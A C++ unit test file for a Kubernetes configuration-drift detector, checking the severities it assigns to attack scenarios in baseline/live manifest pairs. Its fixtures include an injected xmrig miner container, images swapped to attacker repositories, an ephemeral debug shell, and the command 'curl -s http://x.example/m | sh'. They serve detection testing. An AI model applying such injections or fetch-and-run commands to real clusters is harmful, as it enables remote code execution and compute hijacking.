// The attack scenarios of the design (S1 kubectl loop, S3 ephemeral container,
// S5 hijacked sidecar) as baseline/live pairs.
#include <gtest/gtest.h>

#include "drift/drift_test_util.h"
#include "support/test_support.h"

namespace kg::testing {
namespace {

constexpr std::string_view kBaseline = R"(apiVersion: apps/v1
kind: Deployment
metadata:
  name: web
  namespace: shop
spec:
  selector:
    matchLabels: {app: web}
  template:
    metadata:
      labels: {app: web}
    spec:
      containers:
        - name: web
          image: nginx:1.27
        - name: metrics
          image: prom/statsd-exporter:v0.26.0
)";

TEST(DriftS1, ContainerAddedToDeploymentTemplateIsCritical) {
  std::string live = std::string(kBaseline) + R"(        - name: xmrig
          image: docker.io/miner/xmrig:6.21
          args: ["-o", "pool.example:3333"]
)";
  auto result = diff_texts(kBaseline, live);
  auto added = of_rule(result, "KG-DRIFT-001");
  ASSERT_EQ(added.size(), 1u) << dump(result);
  EXPECT_EQ(added[0].severity, rules::Severity::Critical);
  EXPECT_EQ(added[0].container, "xmrig");
  EXPECT_EQ(added[0].path, "spec.template.spec.containers[2]");
  EXPECT_EQ(added[0].file, "live.yaml");
  EXPECT_EQ(added[0].mark.line, 18u);
  EXPECT_NE(added[0].message.find("docker.io/miner/xmrig:6.21"), std::string::npos) << added[0].message;
  EXPECT_EQ(added[0].object.display(), "Deployment shop/web");
  EXPECT_EQ(result.findings.size(), 1u) << dump(result);
}

TEST(DriftS1, LastContainerImageSwappedIsHigh) {
  std::string live(kBaseline);
  live.replace(live.find("prom/statsd-exporter:v0.26.0"), 28, "docker.io/miner/xmrig:6.21");
  auto result = diff_texts(kBaseline, live);
  auto changed = of_rule(result, "KG-DRIFT-002");
  ASSERT_EQ(changed.size(), 1u) << dump(result);
  EXPECT_EQ(changed[0].severity, rules::Severity::High);
  EXPECT_EQ(changed[0].container, "metrics");
  EXPECT_EQ(changed[0].path, "spec.template.spec.containers[1].image");
  EXPECT_NE(changed[0].message.find("prom/statsd-exporter:v0.26.0 -> docker.io/miner/xmrig:6.21"), std::string::npos)
      << changed[0].message;
  EXPECT_EQ(result.findings.size(), 1u) << dump(result);
}

TEST(DriftS1, SameImageWrittenDifferentlyIsNoChange) {
  std::string live(kBaseline);
  live.replace(live.find("nginx:1.27"), 10, "docker.io/library/nginx:1.27");
  EXPECT_TRUE(diff_texts(kBaseline, live).findings.empty());
}

// The pod's own image is mutable and its ReplicaSet does not put it back: the
// pod is compared with the live ReplicaSet, the ReplicaSet with the Deployment.
TEST(DriftS1, ImageSwappedOnThePodItselfIsFoundAgainstItsReplicaSet) {
  std::string live = std::string(kBaseline) + R"(---
apiVersion: apps/v1
kind: ReplicaSet
metadata:
  name: web-7c9f8d6b5
  namespace: shop
  labels: {app: web, pod-template-hash: 7c9f8d6b5}
  ownerReferences:
    - {apiVersion: apps/v1, kind: Deployment, name: web, controller: true, uid: "1"}
spec:
  selector:
    matchLabels: {app: web, pod-template-hash: 7c9f8d6b5}
  template:
    metadata:
      labels: {app: web, pod-template-hash: 7c9f8d6b5}
    spec:
      containers:
        - name: web
          image: nginx:1.27
        - name: metrics
          image: prom/statsd-exporter:v0.26.0
---
apiVersion: v1
kind: Pod
metadata:
  name: web-7c9f8d6b5-x2x9q
  namespace: shop
  labels: {app: web, pod-template-hash: 7c9f8d6b5}
  ownerReferences:
    - {apiVersion: apps/v1, kind: ReplicaSet, name: web-7c9f8d6b5, controller: true, uid: "2"}
spec:
  containers:
    - name: web
      image: nginx:1.27
    - name: metrics
      image: docker.io/miner/xmrig:6.21
)";
  auto result = diff_texts(kBaseline, live);
  auto changed = of_rule(result, "KG-DRIFT-002");
  ASSERT_EQ(changed.size(), 1u) << dump(result);
  EXPECT_EQ(changed[0].object.kind, "Pod");
  EXPECT_EQ(changed[0].path, "spec.containers[1].image");
  EXPECT_NE(changed[0].message.find("against live ReplicaSet shop/web-7c9f8d6b5"), std::string::npos)
      << changed[0].message;
  EXPECT_EQ(result.findings.size(), 1u) << dump(result);
}

// A live Pod whose ReplicaSet is not in the input is matched to its Deployment
// by the ReplicaSet name <deployment>-<pod-template-hash>.
constexpr std::string_view kLivePodWithDebugger = R"(apiVersion: v1
kind: Pod
metadata:
  name: web-7c9f8d6b5-x2x9q
  namespace: shop
  labels: {app: web, pod-template-hash: 7c9f8d6b5}
  ownerReferences:
    - apiVersion: apps/v1
      kind: ReplicaSet
      name: web-7c9f8d6b5
      uid: 0b4a1b8e-1111-4e0e-9d52-6a0a4c1f0e11
      controller: true
      blockOwnerDeletion: true
spec:
  containers:
    - name: web
      image: nginx:1.27
      imagePullPolicy: IfNotPresent
      resources: {}
      terminationMessagePath: /dev/termination-log
      terminationMessagePolicy: File
      volumeMounts:
        - mountPath: /var/run/secrets/kubernetes.io/serviceaccount
          name: kube-api-access-8z7kq
          readOnly: true
    - name: metrics
      image: prom/statsd-exporter:v0.26.0
      imagePullPolicy: IfNotPresent
      volumeMounts:
        - mountPath: /var/run/secrets/kubernetes.io/serviceaccount
          name: kube-api-access-8z7kq
          readOnly: true
  ephemeralContainers:
    - name: debugger-k7tqz
      image: busybox:1.36
      command: [sh]
      stdin: true
      tty: true
      targetContainerName: web
  dnsPolicy: ClusterFirst
  restartPolicy: Always
  schedulerName: default-scheduler
  securityContext: {}
  serviceAccount: default
  serviceAccountName: default
  volumes:
    - name: kube-api-access-8z7kq
      projected:
        defaultMode: 420
        sources:
          - serviceAccountToken: {expirationSeconds: 3607, path: token}
status:
  phase: Running
)";

TEST(DriftS3, EphemeralContainerOnALivePodIsHigh) {
  auto result = diff_texts(kBaseline, kLivePodWithDebugger);
  auto eph = of_rule(result, "KG-DRIFT-004");
  ASSERT_EQ(eph.size(), 1u) << dump(result);
  EXPECT_EQ(eph[0].severity, rules::Severity::High);
  EXPECT_EQ(eph[0].container, "debugger-k7tqz");
  EXPECT_EQ(eph[0].container_role, "ephemeral");
  EXPECT_EQ(eph[0].path, "spec.ephemeralContainers[0]");
  EXPECT_NE(eph[0].message.find("busybox:1.36"), std::string::npos);
  EXPECT_NE(eph[0].message.find("targeting container 'web'"), std::string::npos);
  EXPECT_NE(eph[0].message.find("against baseline Deployment shop/web"), std::string::npos) << eph[0].message;
  // The token volume, its mounts and the defaulted fields are not drift.
  EXPECT_EQ(result.findings.size(), 1u) << dump(result);
  EXPECT_TRUE(result.notices.empty()) << dump(result);
}

TEST(DriftS3, PodWhoseOwnerIsNowhereIsNotComparedButNoted) {
  std::string baseline(kBaseline);
  baseline.replace(baseline.find("name: web\n"), 10, "name: api\n");
  auto result = diff_texts(baseline, kLivePodWithDebugger);
  EXPECT_TRUE(result.findings.empty()) << dump(result);
  ASSERT_FALSE(result.notices.empty());
  EXPECT_NE(dump(result).find("ReplicaSet shop/web-7c9f8d6b5 is in neither input"), std::string::npos) << dump(result);
}

constexpr std::string_view kInjectedPod = R"(apiVersion: v1
kind: Pod
metadata:
  name: ratings
  namespace: shop
  annotations:
    sidecar.istio.io/status: '{"initContainers":["istio-init"],"containers":["istio-proxy"],"volumes":["istio-envoy"],"imagePullSecrets":null}'
spec:
  initContainers:
    - name: istio-init
      image: docker.io/istio/proxyv2:1.22.1
      args: [istio-iptables, -p, "15001"]
  containers:
    - name: ratings
      image: docker.io/istio/examples-bookinfo-ratings-v1:1.20.1
    - name: istio-proxy
      image: docker.io/istio/proxyv2:1.22.1
      args: [proxy, sidecar, --domain, $(POD_NAMESPACE).svc.cluster.local]
      volumeMounts:
        - {name: istio-envoy, mountPath: /etc/istio/proxy}
  volumes:
    - name: istio-envoy
      emptyDir: {medium: Memory}
)";

TEST(DriftS5, ApprovedSidecarImageMovedToAnotherRepositoryIsCritical) {
  std::string live(kInjectedPod);
  auto at = live.find("docker.io/istio/proxyv2:1.22.1", live.find("name: istio-proxy"));
  live.replace(at, 30, "docker.io/attacker/proxyv2:1.22.1");
  auto result = diff_texts(kInjectedPod, live);
  auto changed = of_rule(result, "KG-DRIFT-002");
  ASSERT_EQ(changed.size(), 1u) << dump(result);
  EXPECT_EQ(changed[0].severity, rules::Severity::Critical);
  EXPECT_EQ(changed[0].container, "istio-proxy");
  EXPECT_NE(changed[0].message.find("docker.io/istio/proxyv2:1.22.1 -> docker.io/attacker/proxyv2:1.22.1"),
            std::string::npos)
      << changed[0].message;
}

TEST(DriftS5, ApprovedSidecarUpgradeInItsRepositoryIsOnlyHigh) {
  std::string live(kInjectedPod);
  auto at = live.find("docker.io/istio/proxyv2:1.22.1", live.find("name: istio-proxy"));
  live.replace(at, 30, "gcr.io/istio-release/proxyv2:1.23.0");
  auto changed = of_rule(diff_texts(kInjectedPod, live), "KG-DRIFT-002");
  ASSERT_EQ(changed.size(), 1u);
  EXPECT_EQ(changed[0].severity, rules::Severity::High);
}

TEST(DriftS5, ImpersonatedSidecarAgainstAnUninjectedManifestIsCritical) {
  constexpr std::string_view kManifest = R"(apiVersion: v1
kind: Pod
metadata: {name: ratings, namespace: shop}
spec:
  containers:
    - name: ratings
      image: docker.io/istio/examples-bookinfo-ratings-v1:1.20.1
)";
  std::string live(kInjectedPod);
  auto at = live.find("docker.io/istio/proxyv2:1.22.1", live.find("name: istio-proxy"));
  live.replace(at, 30, "docker.io/attacker/proxyv2:1.22.1");
  auto result = diff_texts(kManifest, live);
  auto added = of_rule(result, "KG-DRIFT-001");
  ASSERT_EQ(added.size(), 1u) << dump(result);
  EXPECT_EQ(added[0].container, "istio-proxy");
  EXPECT_EQ(added[0].severity, rules::Severity::Critical);
  EXPECT_NE(added[0].message.find("takes the name of approved sidecar 'istio-proxy'"), std::string::npos);
  // istio-init and the istio-envoy volume are the injector's: quiet.
  EXPECT_EQ(result.findings.size(), 1u) << dump(result);
}

TEST(DriftS5, LinkerdProxyArgsChangedIsHigh) {
  std::string golden = read_file(corpus("manifests/linkerd2/inject/inject_emojivoto_deployment.golden.yml"));
  ASSERT_FALSE(golden.empty());
  std::string live = golden;
  const std::string anchor = "        name: linkerd-proxy\n        ports:";
  auto at = live.find(anchor);
  ASSERT_NE(at, std::string::npos);
  live.insert(at, "        args:\n        - --inbound-ports-to-ignore=1-65535\n        - --token=s3cr3t-value\n");
  auto result = diff_texts(golden, live);
  auto changed = of_rule(result, "KG-DRIFT-003");
  ASSERT_EQ(changed.size(), 1u) << dump(result);
  EXPECT_EQ(changed[0].severity, rules::Severity::High);
  EXPECT_EQ(changed[0].container, "linkerd-proxy");
  EXPECT_EQ(changed[0].container_role, "injected-sidecar");
  EXPECT_NE(changed[0].message.find("(unset) -> [--inbound-ports-to-ignore=1-65535, --token=<redacted>]"),
            std::string::npos)
      << changed[0].message;
  EXPECT_EQ(changed[0].message.find("s3cr3t"), std::string::npos);
  EXPECT_EQ(result.findings.size(), 1u) << dump(result);
}

TEST(DriftS5, CommandChangeOfAnApplicationContainerIsMedium) {
  std::string live(kBaseline);
  live.insert(live.find("        - name: metrics"),
              "          command: [sh, -c, \"curl -s http://x.example/m | sh\"]\n");
  auto changed = of_rule(diff_texts(kBaseline, live), "KG-DRIFT-003");
  ASSERT_EQ(changed.size(), 1u);
  EXPECT_EQ(changed[0].severity, rules::Severity::Medium);
  EXPECT_EQ(changed[0].path, "spec.template.spec.containers[0].command");
  EXPECT_NE(changed[0].message.find("(unset) -> [sh, -c, \"curl -s http://x.example/m | sh\"]"), std::string::npos)
      << changed[0].message;
}

}  // namespace
}  // namespace kg::testing
